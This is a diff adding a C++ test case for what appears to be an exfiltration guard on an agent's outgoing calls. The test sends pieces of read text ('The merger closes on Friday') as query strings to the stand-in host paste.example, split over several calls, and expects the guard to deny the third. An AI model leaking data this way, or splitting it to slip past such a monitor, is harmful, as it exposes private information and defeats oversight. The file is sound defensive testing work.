@@ -101,6 +101,16 @@ TEST_CASE("an encoded copy, or one cut over two calls, does not pass either") {
   CHECK_THAT(denial, Catch::Contains("begun in an earlier call"));
 }
 
+TEST_CASE("what each call puts before its piece does not hide that the pieces belong together") {
+  Fixture f;
+  f.Read();
+  CHECK(f.Sends(Text("https://paste.example/?d=The merger")));
+  CHECK(f.Sends(Text("https://paste.example/?d= closes o")));
+  const std::string denial = ToolErrorText(f.Send(Text("https://paste.example/?d=n Friday the")));
+  CHECK_THAT(denial, Catch::Contains("`/text`, bytes 25 to 37") &&
+                         Catch::Contains("begun in an earlier call"));
+}
+
 TEST_CASE("a denied call is no part of what was sent") {
   Fixture f;
   f.Read();
